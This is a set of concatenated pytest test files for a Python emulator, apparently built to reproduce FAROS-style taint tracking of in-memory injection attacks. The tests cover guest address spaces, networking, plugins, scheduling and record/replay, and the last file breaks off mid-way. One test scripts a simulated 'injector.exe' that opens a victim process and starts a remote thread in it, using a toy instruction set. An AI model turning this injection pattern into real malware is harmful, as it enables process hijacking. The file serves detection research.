            print_string("msg", 2),
            exit_process(0),
            'msg: .ascii "hi"',
        )
        machine.run()
        assert proc.console == ["hi"]

    def test_busy_loop_terminates(self, machine):
        proc = spawn_asm(
            machine, "t.exe", "start:", busy_loop("w", 50), exit_process(0)
        )
        machine.run()
        assert proc.exit_code == 0

    def test_copy_loop_copies_bytes(self, machine):
        from repro.isa.cpu import AccessKind

        # Park after copying so the process memory survives inspection.
        proc = spawn_asm(
            machine,
            "t.exe",
            "start:",
            "    movi r1, src",
            "    movi r2, dst",
            "    movi r3, 5",
            copy_loop("cp", "r1", "r2", "r3"),
            "park:",
            sleep(1000000),
            "    hlt",
            'src: .ascii "hello"',
            "dst: .space 5",
        )
        machine.run(200_000)
        prog = machine.kernel.image_program("t.exe")
        data = bytes(
            machine.memory.read_byte(
                proc.aspace.translate(prog.label("dst") + i, AccessKind.READ)
            )
            for i in range(5)
        )
        assert data == b"hello"
