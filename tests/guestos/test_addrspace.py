"""Unit tests for virtual address spaces, permissions, and VADs."""

import pytest

from repro.guestos.addrspace import (
    PERM_R,
    PERM_RW,
    PERM_RWX,
    PERM_RX,
    PERM_W,
    PERM_X,
    AddressSpace,
    perm_str,
)
from repro.isa.cpu import AccessKind
from repro.isa.errors import PageFault
from repro.isa.memory import PAGE_SIZE, FrameAllocator, PhysicalMemory


@pytest.fixture
def allocator():
    return FrameAllocator(PhysicalMemory(64 * PAGE_SIZE))


@pytest.fixture
def aspace(allocator):
    return AddressSpace(asid=0x1234, allocator=allocator)


class TestMapping:
    def test_map_and_translate(self, aspace):
        aspace.map_region(0x1000, PAGE_SIZE, PERM_RW, "data")
        paddr = aspace.translate(0x1000 + 5, AccessKind.READ)
        assert paddr % PAGE_SIZE == 5

    def test_unmapped_faults(self, aspace):
        with pytest.raises(PageFault):
            aspace.translate(0x9000, AccessKind.READ)

    def test_offsets_preserved_across_pages(self, aspace):
        aspace.map_region(0x1000, 3 * PAGE_SIZE, PERM_RW, "data")
        for off in (0, PAGE_SIZE + 1, 3 * PAGE_SIZE - 1):
            assert aspace.translate(0x1000 + off, AccessKind.READ) % PAGE_SIZE == off % PAGE_SIZE

    def test_size_rounds_up_to_pages(self, aspace):
        area = aspace.map_region(0x1000, 10, PERM_RW, "tiny")
        assert area.size == PAGE_SIZE
        assert aspace.is_mapped(0x1000 + PAGE_SIZE - 1)

    def test_unaligned_base_rejected(self, aspace):
        with pytest.raises(ValueError):
            aspace.map_region(0x1001, PAGE_SIZE, PERM_RW, "x")

    def test_overlap_rejected(self, aspace):
        aspace.map_region(0x1000, 2 * PAGE_SIZE, PERM_RW, "a")
        with pytest.raises(ValueError):
            aspace.map_region(0x1000 + PAGE_SIZE, PAGE_SIZE, PERM_RW, "b")

    def test_two_spaces_get_distinct_frames(self, allocator):
        a = AddressSpace(1, allocator)
        b = AddressSpace(2, allocator)
        a.map_region(0x1000, PAGE_SIZE, PERM_RW, "a")
        b.map_region(0x1000, PAGE_SIZE, PERM_RW, "b")
        pa = a.translate(0x1000, AccessKind.READ)
        pb = b.translate(0x1000, AccessKind.READ)
        assert pa != pb


class TestPermissions:
    @pytest.mark.parametrize(
        "perms,access,ok",
        [
            (PERM_R, AccessKind.READ, True),
            (PERM_R, AccessKind.WRITE, False),
            (PERM_R, AccessKind.FETCH, False),
            (PERM_RW, AccessKind.WRITE, True),
            (PERM_RX, AccessKind.FETCH, True),
            (PERM_RX, AccessKind.WRITE, False),
            (PERM_RWX, AccessKind.FETCH, True),
            (PERM_W, AccessKind.READ, False),
            (PERM_X, AccessKind.FETCH, True),
        ],
    )
    def test_access_checks(self, aspace, perms, access, ok):
        aspace.map_region(0x1000, PAGE_SIZE, perms, "region")
        if ok:
            aspace.translate(0x1000, access)
        else:
            with pytest.raises(PageFault):
                aspace.translate(0x1000, access)

    def test_protect_changes_page_perms(self, aspace):
        aspace.map_region(0x1000, PAGE_SIZE, PERM_RW, "region")
        aspace.protect_region(0x1000, PAGE_SIZE, PERM_RX)
        aspace.translate(0x1000, AccessKind.FETCH)
        with pytest.raises(PageFault):
            aspace.translate(0x1000, AccessKind.WRITE)

    def test_protect_unmapped_faults(self, aspace):
        with pytest.raises(PageFault):
            aspace.protect_region(0x5000, PAGE_SIZE, PERM_RW)

    def test_vad_accumulates_executable_bit(self, aspace):
        # malfind relies on VADs remembering a region was ever made +x
        aspace.map_region(0x1000, 2 * PAGE_SIZE, PERM_RW, "payload")
        aspace.protect_region(0x1000, PAGE_SIZE, PERM_RX)
        area = aspace.area_at(0x1000)
        assert area.perms & PERM_X

    def test_perm_str(self):
        assert perm_str(PERM_RWX) == "rwx"
        assert perm_str(PERM_R) == "r--"
        assert perm_str(0) == "---"


class TestUnmapAndTeardown:
    def test_unmap_frees_frames(self, allocator):
        aspace = AddressSpace(1, allocator)
        before = allocator.free_frames
        aspace.map_region(0x1000, 4 * PAGE_SIZE, PERM_RW, "region")
        aspace.unmap_region(0x1000)
        assert allocator.free_frames == before
        assert not aspace.is_mapped(0x1000)

    def test_unmap_requires_region_start(self, aspace):
        aspace.map_region(0x1000, 2 * PAGE_SIZE, PERM_RW, "region")
        with pytest.raises(PageFault):
            aspace.unmap_region(0x1000 + PAGE_SIZE)

    def test_shared_frames_not_freed_on_unmap(self, allocator):
        owner = AddressSpace(1, allocator)
        owner.map_region(0x1000, PAGE_SIZE, PERM_RW, "owner")
        frame = owner.translate(0x1000, AccessKind.READ) // PAGE_SIZE
        other = AddressSpace(2, allocator)
        other.map_shared(0x2000, [frame], PERM_R, "shared", module="m")
        free_before = allocator.free_frames
        other.unmap_region(0x2000)
        assert allocator.free_frames == free_before  # frame still owned

    def test_release_all(self, allocator):
        aspace = AddressSpace(1, allocator)
        before = allocator.free_frames
        aspace.map_region(0x1000, 2 * PAGE_SIZE, PERM_RW, "a")
        aspace.map_region(0x3000, PAGE_SIZE, PERM_RW, "b")
        aspace.release_all()
        assert allocator.free_frames == before
        assert aspace.areas == []


class TestSharedMappings:
    def test_shared_mapping_aliases_same_physical(self, allocator):
        owner = AddressSpace(1, allocator)
        owner.map_region(0x1000, PAGE_SIZE, PERM_RW, "owner")
        frame = owner.translate(0x1000, AccessKind.READ) // PAGE_SIZE
        other = AddressSpace(2, allocator)
        other.map_shared(0xF000, [frame], PERM_R, "alias", module="m")
        assert other.translate(0xF003, AccessKind.READ) == owner.translate(
            0x1003, AccessKind.READ
        )

    def test_shared_area_is_not_private(self, allocator):
        aspace = AddressSpace(1, allocator)
        aspace.map_shared(0xF000, [5], PERM_RX, "k32", module="kernel32.dll")
        area = aspace.area_at(0xF000)
        assert not area.private and area.module == "kernel32.dll"


class TestQueries:
    def test_area_at(self, aspace):
        aspace.map_region(0x1000, PAGE_SIZE, PERM_RW, "one")
        assert aspace.area_at(0x1000).name == "one"
        assert aspace.area_at(0x2000) is None

    def test_find_free_skips_mapped(self, aspace):
        aspace.map_region(0x1000, PAGE_SIZE, PERM_RW, "a")
        free = aspace.find_free(PAGE_SIZE, 0x1000, 0x4000)
        assert free == 0x1000 + PAGE_SIZE

    def test_find_free_exhaustion(self, aspace):
        aspace.map_region(0x1000, PAGE_SIZE, PERM_RW, "a")
        with pytest.raises(MemoryError):
            aspace.find_free(PAGE_SIZE, 0x1000, 0x1000 + PAGE_SIZE)

    def test_areas_sorted_by_start(self, aspace):
        aspace.map_region(0x3000, PAGE_SIZE, PERM_RW, "later")
        aspace.map_region(0x1000, PAGE_SIZE, PERM_RW, "earlier")
        assert [a.name for a in aspace.areas] == ["earlier", "later"]

    def test_translate_range_spans_pages(self, aspace):
        aspace.map_region(0x1000, 2 * PAGE_SIZE, PERM_RW, "r")
        paddrs = aspace.translate_range(0x1000 + PAGE_SIZE - 2, 4, AccessKind.READ)
        assert len(paddrs) == 4


class TestMappingEpoch:
    """Every mutation that can change a translation bumps ``epoch``,
    so translation-result caches (the block translator's data-footprint
    summaries) can key on it instead of hooking each operation."""

    def test_fresh_space_starts_at_zero(self, aspace):
        assert aspace.epoch == 0

    def test_every_mutator_bumps(self, allocator, aspace):
        aspace.map_region(0x1000, PAGE_SIZE, PERM_RW, "a")
        assert aspace.epoch == 1
        frames = [allocator.alloc()]
        aspace.map_shared(0x2000, frames, PERM_RX, "b", module="mod")
        assert aspace.epoch == 2
        aspace.protect_region(0x1000, PAGE_SIZE, PERM_RWX)
        assert aspace.epoch == 3
        aspace.unmap_region(0x1000)
        assert aspace.epoch == 4
        aspace.release_all()
        assert aspace.epoch == 5

    def test_failed_operations_do_not_bump(self, aspace):
        aspace.map_region(0x1000, PAGE_SIZE, PERM_RW, "a")
        before = aspace.epoch
        with pytest.raises(ValueError):
            aspace.map_region(0x1000, PAGE_SIZE, PERM_RW, "overlap")
        with pytest.raises(PageFault):
            aspace.protect_region(0x900000, PAGE_SIZE, PERM_R)
        with pytest.raises(PageFault):
            aspace.unmap_region(0x900000)
        assert aspace.epoch == before

    def test_translate_does_not_bump(self, aspace):
        aspace.map_region(0x1000, PAGE_SIZE, PERM_RW, "a")
        before = aspace.epoch
        aspace.translate(0x1004, AccessKind.READ)
        aspace.translate_range(0x1000, 8, AccessKind.READ)
        assert aspace.epoch == before
