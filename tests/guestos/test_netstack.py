"""Unit tests for the guest network stack."""

import pytest

from repro.emulator.devices import Packet
from repro.guestos.netstack import NetError, NetStack

GUEST = "169.254.57.168"
REMOTE = "169.254.26.161"


@pytest.fixture
def stack():
    return NetStack(GUEST)


def packet(dst_port, payload=b"", src_port=4444):
    return Packet(REMOTE, src_port, GUEST, dst_port, payload)


class TestSockets:
    def test_create_assigns_unique_ids(self, stack):
        a, b = stack.create(1), stack.create(1)
        assert a.sock_id != b.sock_id

    def test_get_unknown_raises(self, stack):
        with pytest.raises(NetError):
            stack.get(999)

    def test_get_closed_raises(self, stack):
        sock = stack.create(1)
        stack.close(sock)
        with pytest.raises(NetError):
            stack.get(sock.sock_id)

    def test_connect_assigns_ephemeral_ports_in_order(self, stack):
        a, b = stack.create(1), stack.create(1)
        stack.connect(a, REMOTE, 80)
        stack.connect(b, REMOTE, 81)
        assert (a.local_port, b.local_port) == (49152, 49153)

    def test_connect_twice_rejected(self, stack):
        sock = stack.create(1)
        stack.connect(sock, REMOTE, 80)
        with pytest.raises(NetError):
            stack.connect(sock, REMOTE, 81)

    def test_listen_binds_port(self, stack):
        sock = stack.create(1)
        stack.listen(sock, 8080)
        assert sock.listening and sock.local_port == 8080

    def test_double_bind_rejected(self, stack):
        stack.listen(stack.create(1), 8080)
        with pytest.raises(NetError):
            stack.listen(stack.create(1), 8080)


class TestDelivery:
    def test_connected_socket_receives_matching_packet(self, stack):
        sock = stack.create(1)
        stack.connect(sock, REMOTE, 4444)
        hit = stack.deliver(packet(sock.local_port, b"abc"), paddrs=(10, 11, 12))
        assert hit is sock
        assert sock.rx_available() == 3

    def test_wrong_port_dropped(self, stack):
        sock = stack.create(1)
        stack.connect(sock, REMOTE, 4444)
        assert stack.deliver(packet(9999, b"x"), paddrs=(1,)) is None

    def test_wrong_remote_dropped(self, stack):
        sock = stack.create(1)
        stack.connect(sock, REMOTE, 4444)
        bad = Packet("6.6.6.6", 4444, GUEST, sock.local_port, b"x")
        assert stack.deliver(bad, paddrs=(1,)) is None

    def test_listener_spawns_connected_child(self, stack):
        listener = stack.create(1)
        stack.listen(listener, 8080)
        stack.deliver(packet(8080, b"hi", src_port=5000), paddrs=(20, 21))
        assert len(listener.accept_queue) == 1
        child = listener.accept_queue[0]
        assert child.connected
        assert (child.remote_ip, child.remote_port) == (REMOTE, 5000)
        assert child.rx_available() == 2

    def test_established_child_preferred_over_listener(self, stack):
        listener = stack.create(1)
        stack.listen(listener, 8080)
        stack.deliver(packet(8080, b"1", src_port=5000), paddrs=(1,))
        child = listener.accept_queue.popleft()
        stack.deliver(packet(8080, b"2", src_port=5000), paddrs=(2,))
        assert child.rx_available() == 2
        assert not listener.accept_queue

    def test_seen_flows_deduplicated(self, stack):
        sock = stack.create(1)
        stack.connect(sock, REMOTE, 4444)
        stack.deliver(packet(sock.local_port, b"a"), paddrs=(1,))
        stack.deliver(packet(sock.local_port, b"b"), paddrs=(2,))
        assert len(stack.seen_flows) == 1


class TestConsume:
    def test_consume_returns_dma_paddrs_in_order(self, stack):
        sock = stack.create(1)
        stack.connect(sock, REMOTE, 4444)
        stack.deliver(packet(sock.local_port, b"abcd"), paddrs=(10, 11, 12, 13))
        assert stack.consume(sock, 4) == (10, 11, 12, 13)
        assert sock.rx_available() == 0

    def test_partial_consume_keeps_remainder(self, stack):
        sock = stack.create(1)
        stack.connect(sock, REMOTE, 4444)
        stack.deliver(packet(sock.local_port, b"abcd"), paddrs=(10, 11, 12, 13))
        assert stack.consume(sock, 2) == (10, 11)
        assert stack.consume(sock, 2) == (12, 13)

    def test_consume_spans_segments(self, stack):
        sock = stack.create(1)
        stack.connect(sock, REMOTE, 4444)
        stack.deliver(packet(sock.local_port, b"ab"), paddrs=(10, 11))
        stack.deliver(packet(sock.local_port, b"cd"), paddrs=(20, 21))
        assert stack.consume(sock, 3) == (10, 11, 20)
        assert stack.consume(sock, 3) == (21,)

    def test_consume_empty_returns_nothing(self, stack):
        sock = stack.create(1)
        stack.connect(sock, REMOTE, 4444)
        assert stack.consume(sock, 4) == ()
