"""Unit tests for the plugin manager and callback dispatch."""

import pytest

from repro.emulator.machine import Machine, MachineConfig
from repro.emulator.plugins import Plugin, PluginManager

from tests.conftest import spawn_asm


class Recorder(Plugin):
    """Counts every callback it receives."""

    def __init__(self):
        super().__init__()
        self.calls = []

    def on_machine_start(self, machine):
        self.calls.append("start")

    def on_machine_stop(self, machine):
        self.calls.append("stop")

    def on_syscall_enter(self, machine, thread, number, args):
        self.calls.append(("enter", number))

    def on_syscall_return(self, machine, thread, number, result):
        self.calls.append(("return", number, result))

    def on_process_create(self, machine, process):
        self.calls.append(("create", process.name))

    def on_process_exit(self, machine, process, status):
        self.calls.append(("exit", process.name, status))


class TestPluginManager:
    def test_registration_order_preserved(self):
        manager = PluginManager()
        a, b = Plugin(), Plugin()
        manager.register(a)
        manager.register(b)
        assert manager.plugins == (a, b)

    def test_unregister(self):
        manager = PluginManager()
        p = manager.register(Plugin())
        manager.unregister(p)
        assert manager.plugins == ()

    def test_register_all(self):
        manager = PluginManager()
        manager.register_all([Plugin(), Plugin()])
        assert len(manager.plugins) == 2

    def test_default_name_is_class_name(self):
        assert Plugin().name == "Plugin"
        assert Recorder().name == "Recorder"

    def test_hook_attribute_reaches_every_plugin(self):
        manager = PluginManager()
        a, b = Recorder(), Recorder()
        manager.register_all([a, b])
        manager.on_machine_start(None)
        assert a.calls == ["start"] and b.calls == ["start"]

    def test_base_noops_are_skipped_in_dispatch_lists(self):
        # A bare Plugin() overrides nothing, so no hook list contains it.
        manager = PluginManager()
        manager.register(Plugin())
        recorder = manager.register(Recorder())
        assert manager.handlers("on_machine_start") == (
            recorder.on_machine_start,
        )
        assert manager.handlers("on_guest_fault") == ()

    def test_instance_assigned_hook_participates(self):
        # The documented contract: a callable assigned on the instance
        # *before* register() joins the dispatch list like an override.
        seen = []
        seeder = Plugin()
        seeder.on_machine_start = lambda machine: seen.append(machine)
        manager = PluginManager()
        manager.register(seeder)
        manager.on_machine_start("m")
        assert seen == ["m"]

    def test_unregister_rebuilds_dispatch_lists(self):
        manager = PluginManager()
        recorder = manager.register(Recorder())
        manager.unregister(recorder)
        manager.on_machine_start(None)
        assert recorder.calls == []

    def test_dispatch_shim_still_works_but_warns(self):
        manager = PluginManager()
        recorder = manager.register(Recorder())
        with pytest.warns(DeprecationWarning, match="on_machine_start"):
            manager.dispatch("on_machine_start", None)
        assert recorder.calls == ["start"]


class TestCallbackFlow:
    def test_full_lifecycle_callback_sequence(self):
        machine = Machine(MachineConfig())
        recorder = Recorder()
        machine.plugins.register(recorder)
        spawn_asm(machine, "a.exe", "start: movi r1, 5\nmovi r0, SYS_EXIT\nsyscall")
        machine.run()
        assert recorder.calls[0] == ("create", "a.exe")
        assert "start" in recorder.calls
        assert ("enter", 1) in recorder.calls  # SYS_EXIT
        assert ("exit", "a.exe", 5) in recorder.calls
        assert recorder.calls[-1] == "stop"

    def test_machine_start_fires_once_across_runs(self):
        machine = Machine(MachineConfig())
        recorder = Recorder()
        machine.plugins.register(recorder)
        spawn_asm(machine, "a.exe", "start:\nmovi r1, 9000\nmovi r0, SYS_SLEEP\nsyscall\nhlt")
        machine.run(max_instructions=1_000)
        machine.run(max_instructions=20_000)
        assert recorder.calls.count("start") == 1

    def test_syscall_return_carries_result(self):
        machine = Machine(MachineConfig())
        recorder = Recorder()
        machine.plugins.register(recorder)
        spawn_asm(
            machine,
            "a.exe",
            "start:\nmovi r1, 64\nmovi r2, PERM_RW\nmovi r0, SYS_ALLOC\nsyscall\nhlt",
        )
        machine.run()
        returns = [c for c in recorder.calls if c[0] == "return" and c[1] == 10]
        assert returns and returns[0][2] != 0xFFFFFFFF

    def test_guest_fault_callback(self):
        events = []

        class FaultWatcher(Plugin):
            def on_guest_fault(self, machine, thread, fault):
                events.append(type(fault).__name__)

        machine = Machine(MachineConfig())
        machine.plugins.register(FaultWatcher())
        spawn_asm(machine, "bad.exe", "start: movi r1, 0xff0000\nld r2, [r1]\nhlt")
        machine.run()
        assert events == ["PageFault"]
