"""Edge cases in the machine's execution loop and scheduler."""

import pytest

from repro.emulator.devices import Packet
from repro.emulator.machine import Machine, MachineConfig
from repro.emulator.record_replay import KeystrokeEvent, PacketEvent
from repro.guestos.process import ThreadState

from tests.conftest import register_asm, spawn_asm

COUNT_FOREVER = """
start:
    movi r7, 0
loop:
    addi r7, r7, 1
    jmp loop
"""


class TestBudgets:
    def test_run_stops_at_instruction_budget(self, machine):
        spawn_asm(machine, "spin.exe", COUNT_FOREVER)
        stats = machine.run(max_instructions=5_000)
        assert stats.stop_reason == "budget"
        assert machine.now >= 5_000

    def test_budget_is_relative_per_run_call(self, machine):
        spawn_asm(machine, "spin.exe", COUNT_FOREVER)
        machine.run(max_instructions=1_000)
        first = machine.now
        machine.run(max_instructions=1_000)
        assert machine.now >= first + 1_000

    def test_run_resumes_spinning_process_where_it_left_off(self, machine):
        from repro.isa.registers import Reg

        proc = spawn_asm(machine, "spin.exe", COUNT_FOREVER)
        machine.run(max_instructions=2_000)
        r7_first = proc.main_thread.context["regs"][Reg.R7]
        machine.run(max_instructions=2_000)
        r7_second = proc.main_thread.context["regs"][Reg.R7]
        assert r7_second > r7_first > 0

    def test_empty_machine_stops_idle(self, machine):
        stats = machine.run(max_instructions=10_000)
        assert stats.stop_reason == "idle"

    def test_machine_with_only_sleepers_skips_time(self, machine):
        proc = spawn_asm(
            machine,
            "s.exe",
            "start:\nmovi r1, 50000\nmovi r0, SYS_SLEEP\nsyscall\nmovi r1, 1\nmovi r0, SYS_EXIT\nsyscall",
        )
        machine.run(max_instructions=100_000)
        assert proc.exit_code == 1
        # Wall work was tiny: only a handful of instructions retired,
        # the rest of the clock advance was an idle skip.


class TestEvents:
    def test_event_scheduled_in_past_fires_immediately(self, machine):
        spawn_asm(machine, "idle.exe", "start:\nmovi r1, 1000\nmovi r0, SYS_SLEEP\nsyscall\nhlt")
        machine.run(max_instructions=2_000)
        machine.schedule(0, KeystrokeEvent(b"x"))  # already in the past
        machine.run(max_instructions=2_000)
        assert machine.devices.keyboard.pending == 1

    def test_events_delivered_in_tick_order(self, machine):
        spawn_asm(machine, "spin.exe", COUNT_FOREVER)
        machine.schedule(300, KeystrokeEvent(b"b"))
        machine.schedule(200, KeystrokeEvent(b"a"))
        machine.run(max_instructions=2_000)
        assert machine.devices.keyboard.read(2) == b"ab"

    def test_same_tick_events_keep_schedule_order(self, machine):
        spawn_asm(machine, "spin.exe", COUNT_FOREVER)
        machine.schedule(100, KeystrokeEvent(b"1"))
        machine.schedule(100, KeystrokeEvent(b"2"))
        machine.run(max_instructions=1_000)
        assert machine.devices.keyboard.read(2) == b"12"

    def test_journal_records_delivery(self, machine):
        spawn_asm(machine, "spin.exe", COUNT_FOREVER)
        machine.schedule(100, KeystrokeEvent(b"x"))
        machine.run(max_instructions=1_000)
        assert len(machine.journal) == 1
        at, event = machine.journal[0]
        assert at >= 100 and isinstance(event, KeystrokeEvent)

    def test_packet_to_machine_without_sockets_is_dropped(self, machine):
        spawn_asm(machine, "spin.exe", COUNT_FOREVER)
        machine.schedule(
            100, PacketEvent(Packet("1.1.1.1", 1, machine.devices.nic.ip, 2, b"x"))
        )
        machine.run(max_instructions=1_000)  # must not raise


class TestSchedulingFairness:
    def test_two_spinners_share_the_cpu(self, machine):
        from repro.isa.registers import Reg

        a = spawn_asm(machine, "a.exe", COUNT_FOREVER)
        b = spawn_asm(machine, "b.exe", COUNT_FOREVER)
        machine.run(max_instructions=20_000)
        ca = a.main_thread.context["regs"][Reg.R7]
        cb = b.main_thread.context["regs"][Reg.R7]
        assert ca > 0 and cb > 0
        assert abs(ca - cb) / max(ca, cb) < 0.2  # round robin is fair

    def test_suspended_process_consumes_no_cpu(self, machine):
        from repro.isa.registers import Reg

        frozen = spawn_asm(machine, "f.exe", COUNT_FOREVER, suspended=True)
        running = spawn_asm(machine, "r.exe", COUNT_FOREVER)
        machine.run(max_instructions=10_000)
        assert frozen.main_thread.context["regs"][Reg.R7] == 0
        assert running.main_thread.context["regs"][Reg.R7] > 0

    def test_suspend_resume_by_peer(self, machine):
        victim = spawn_asm(machine, "victim.exe", COUNT_FOREVER)
        spawn_asm(
            machine,
            "controller.exe",
            """
            name: .asciz "victim.exe"
            start:
                movi r1, name
                movi r0, SYS_FIND_PROCESS
                syscall
                mov r1, r0
                movi r0, SYS_OPEN_PROCESS
                syscall
                mov r7, r0
                mov r1, r7
                movi r0, SYS_SUSPEND_THREAD
                syscall
                movi r1, 2000
                movi r0, SYS_SLEEP
                syscall
                mov r1, r7
                movi r0, SYS_RESUME_THREAD
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            """,
        )
        machine.run(max_instructions=30_000)
        assert victim.main_thread.state in (ThreadState.READY, ThreadState.RUNNING)

    def test_remote_thread_and_main_thread_both_run(self, machine):
        from repro.isa.registers import Reg
        from repro.guestos import layout

        victim = spawn_asm(
            machine,
            "victim.exe",
            COUNT_FOREVER + "\nremote_entry:\nmovi r6, 0\nrloop:\naddi r6, r6, 1\njmp rloop",
        )
        remote_entry = layout.IMAGE_BASE + 3 * 8
        spawn_asm(
            machine,
            "injector.exe",
            f"""
            name: .asciz "victim.exe"
            start:
                movi r1, name
                movi r0, SYS_FIND_PROCESS
                syscall
                mov r1, r0
                movi r0, SYS_OPEN_PROCESS
                syscall
                mov r1, r0
                movi r2, {remote_entry}
                movi r3, 0
                movi r0, SYS_CREATE_REMOTE_THREAD
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            """,
        )
        machine.run(max_instructions=40_000)
        assert len(victim.threads) == 2
        main, remote = victim.threads
        assert main.context["regs"][Reg.R7] > 0
        assert remote.context["regs"][Reg.R6] > 0


class TestDmaRing:
    def test_dma_allocations_advance(self, machine):
        a = machine.dma_alloc(16)
        b = machine.dma_alloc(16)
        assert a[-1] < b[0]

    def test_dma_wraps_when_full(self, machine):
        from repro.guestos import layout

        machine.dma_alloc(layout.DMA_SIZE - 8)
        wrapped = machine.dma_alloc(64)
        assert wrapped[0] == layout.DMA_BASE

    def test_oversized_packet_rejected(self, machine):
        from repro.faults.errors import DeviceFault
        from repro.guestos import layout

        with pytest.raises(DeviceFault) as exc:
            machine.dma_alloc(layout.DMA_SIZE + 1)
        # The old conflation with host MemoryError is gone: a DMA-ring
        # overflow is a device fault, not a host allocation failure.
        assert not isinstance(exc.value, (MemoryError, ValueError))
