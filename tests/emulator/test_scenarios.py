"""Unit tests for Scenario construction and Recording metadata."""

import pytest

from repro.emulator.machine import MachineConfig, RunStats
from repro.emulator.record_replay import KeystrokeEvent, Recording, Scenario, record

from tests.conftest import register_asm


def trivial_setup(machine):
    register_asm(machine, "t.exe", "start: movi r1, 0\nmovi r0, SYS_EXIT\nsyscall")
    machine.kernel.spawn("t.exe")


class TestScenario:
    def test_build_attaches_plugins_before_setup(self):
        """Plugins must observe boot-time events (process creation)."""
        from repro.emulator.plugins import Plugin

        seen = []

        class Watcher(Plugin):
            def on_process_create(self, machine, process):
                seen.append(process.name)

        Scenario(name="s", setup=trivial_setup).build(plugins=[Watcher()])
        assert seen == ["t.exe"]

    def test_custom_machine_config_honoured(self):
        config = MachineConfig(mem_size=1 << 19, quantum=25)
        machine = Scenario(name="s", setup=trivial_setup, config=config).build()
        assert machine.memory.size == 1 << 19
        assert machine.config.quantum == 25

    def test_run_returns_finished_machine(self):
        machine = Scenario(name="s", setup=trivial_setup).run()
        proc = next(iter(machine.kernel.processes.values()))
        assert proc.exit_code == 0

    def test_events_scheduled_on_build(self):
        scenario = Scenario(
            name="s",
            setup=trivial_setup,
            events=[(100, KeystrokeEvent(b"x"))],
        )
        machine = scenario.build()
        assert machine._next_event_at() == 100

    def test_max_instructions_limits_run(self):
        def spinner(machine):
            register_asm(machine, "s.exe", "start: jmp start")
            machine.kernel.spawn("s.exe")

        scenario = Scenario(name="spin", setup=spinner, max_instructions=3_000)
        machine = scenario.run()
        assert machine.now <= 3_100  # budget plus at most one quantum


class TestRecording:
    def test_recording_metadata(self):
        recording = record(Scenario(name="s", setup=trivial_setup))
        assert isinstance(recording, Recording)
        assert isinstance(recording.stats, RunStats)
        assert recording.final_instret > 0
        assert recording.journal == []  # no external events in this one

    def test_recording_journal_captures_events(self):
        scenario = Scenario(
            name="s",
            setup=trivial_setup,
            events=[(1, KeystrokeEvent(b"k"))],
        )
        recording = record(scenario)
        assert len(recording.journal) == 1

    def test_stats_stop_reason(self):
        recording = record(Scenario(name="s", setup=trivial_setup))
        assert recording.stats.stop_reason in ("idle", "budget")
