"""The snapshot differential harness: forks are bit-identical to cold boots.

The warm path (:mod:`repro.emulator.snapshot`) is only allowed to exist
because nothing downstream can tell it happened.  For each attack this
harness runs the sample twice -- once from a cold scenario boot, once
forked from a captured post-boot snapshot -- under a full FAROS stack
with a *per-run* provenance interner, and demands equality of:

* the record journal (event-for-event, by repr) and final instret;
* the serialized :class:`~repro.faros.report.FarosReport`;
* the interner's hit/miss counters (the taint engine took the exact
  same provenance path, not merely one with the same verdict).

One roster member runs in tier-1; the full roster plus double-fork
reuse is the slow suite.
"""

import pytest

from repro.analysis.triage import ATTACK_BUILDER_REGISTRY
from repro.emulator.record_replay import record, replay
from repro.emulator.snapshot import (
    MachineSnapshot,
    SnapshotIntegrityError,
    snapshot_record,
    snapshot_replay,
)
from repro.faros import Faros
from repro.taint.intern import ProvInterner
from repro.taint.tracker import TaintTracker

ATTACKS = tuple(ATTACK_BUILDER_REGISTRY)


def _tracker_cls(policy, tags, **kw):
    # A private interner per run: global-singleton hit/miss counters
    # would smear across the cold and warm runs being compared.
    return TaintTracker(policy=policy, tags=tags, interner=ProvInterner(),
                        **kw)


def _fingerprint(recording, faros):
    return {
        "final_instret": recording.final_instret,
        "journal": [(tick, repr(event)) for tick, event in recording.journal],
        "report": faros.report().to_json_dict(),
        "interner": (faros.tracker.interner.hits,
                     faros.tracker.interner.misses),
    }


def _cold_run(attack: str) -> dict:
    scenario = ATTACK_BUILDER_REGISTRY[attack]().scenario
    recording = record(scenario)
    faros = Faros(tracker_cls=_tracker_cls)
    replay(recording, plugins=[faros])
    return _fingerprint(recording, faros)


def _warm_run(snapshot: MachineSnapshot) -> dict:
    recording = snapshot_record(snapshot)
    faros = Faros(tracker_cls=_tracker_cls)
    snapshot_replay(snapshot, recording, plugins=[faros])
    return _fingerprint(recording, faros)


def _assert_identical(cold: dict, warm: dict, attack: str) -> None:
    assert cold["final_instret"] == warm["final_instret"], attack
    assert cold["journal"] == warm["journal"], f"{attack}: journals diverge"
    assert cold["report"] == warm["report"], f"{attack}: reports diverge"
    assert cold["interner"] == warm["interner"], \
        f"{attack}: taint provenance path diverged"


def test_fork_matches_cold_boot_code_injection():
    attack = "code_injection"
    snapshot = MachineSnapshot.capture(
        ATTACK_BUILDER_REGISTRY[attack]().scenario)
    _assert_identical(_cold_run(attack), _warm_run(snapshot), attack)


def test_second_fork_from_same_snapshot_is_identical():
    """Forking must not consume the snapshot: run N == run 1."""
    attack = "code_injection"
    snapshot = MachineSnapshot.capture(
        ATTACK_BUILDER_REGISTRY[attack]().scenario)
    first, second = _warm_run(snapshot), _warm_run(snapshot)
    _assert_identical(first, second, attack)


def test_corrupted_snapshot_fails_closed():
    attack = "code_injection"
    snapshot = MachineSnapshot.capture(
        ATTACK_BUILDER_REGISTRY[attack]().scenario)
    blob = bytearray(snapshot.state_blob)
    blob[len(blob) // 2] ^= 0xFF
    snapshot.state_blob = bytes(blob)
    with pytest.raises(SnapshotIntegrityError):
        snapshot.materialize()


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS)
def test_fork_matches_cold_boot_full_roster(attack):
    snapshot = MachineSnapshot.capture(
        ATTACK_BUILDER_REGISTRY[attack]().scenario)
    _assert_identical(_cold_run(attack), _warm_run(snapshot), attack)
