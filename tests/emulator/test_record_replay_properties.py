"""Property tests for record/replay determinism.

Determinism is the architectural contract FAROS rests on (§V-C): the
replayed execution must be the recorded execution for taint analysis of
the replay to describe the original run.  Hypothesis varies the
nondeterministic inputs (event timing, payload content, fragmentation)
and checks replays never diverge.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attacks.common import ATTACKER_IP, FIRST_EPHEMERAL_PORT, GUEST_IP
from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent, Scenario, record, replay
from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.isa.assembler import assemble

ECHO_SOURCE = """
start:
    movi r0, SYS_SOCKET
    syscall
